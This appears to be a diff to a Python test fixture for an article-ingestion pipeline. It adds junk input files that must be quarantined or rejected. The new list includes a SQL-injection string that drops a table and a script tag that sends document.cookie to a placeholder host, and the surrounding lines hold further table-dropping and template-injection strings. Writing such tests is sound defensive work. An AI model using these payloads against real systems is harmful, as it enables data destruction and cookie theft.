@@ -77,6 +77,15 @@ ONE_HUGE_LINE = "Budget passes after marathon session\n\n" + (
     "The council said on Tuesday that the new budget would protect local services for residents. " * 53_000
 )[: 5_000_000 - 40] + "\n"
 
+# name, text, encoding
+JUNK = [
+    ("junk-note.txt", "Back at four, the spare key is under the blue pot.\n", "utf-8"),
+    ("junk-hi-utf16.txt", "Hi there", "utf-16"),
+    ("junk-quote-marks.txt", '"' * 3000 + "\n", "utf-8"),
+    ("junk-drop-table.txt", "'; DROP TABLE articles; --\n", "utf-8"),
+    ("junk-script.txt", "<script>document.location='https://example.invalid/?c='+document.cookie</script>\n", "utf-8"),
+]
+
 SQL = "'; drop table raw.articles; --"
 SQL2 = '"; delete from staging.stg_articles where 1=1; --'
 JINJA = "{{ 7 * 7 }} {{ var('near_duplicate_threshold') }} {% for x in range(3) %}loop{% endfor %} {# note #}"
@@ -203,6 +212,9 @@ def _build_inbox(root: Path) -> tuple[Path, dict[str, Case], list[str], str, lis
     add("deutsch.txt", utf8(GERMAN_ARTICLE), Case("german", "not_lost", text=GERMAN_ARTICLE))
     add("quote-storm.txt", utf8(QUOTE_STORM), Case("quotes", "not_lost", text=QUOTE_STORM))
     add("chrome-only.txt", utf8(CHROME_ONLY), Case("chrome only", "quarantined_or_rejected", text=CHROME_ONLY))
+    # Junk beside articles (issue 12): each is quarantined or rejected on its own; the load publishes.
+    for name, text, encoding in JUNK:
+        add(name, text.encode(encoding), Case(name, "quarantined_or_rejected", text=text))
     marker_dirs = [root, inbox, PROJECT_ROOT]
     injection, payloads = _injection_article(root)
     injection_path = add("injection.txt", utf8(injection), Case("injection", "landed", text=injection))
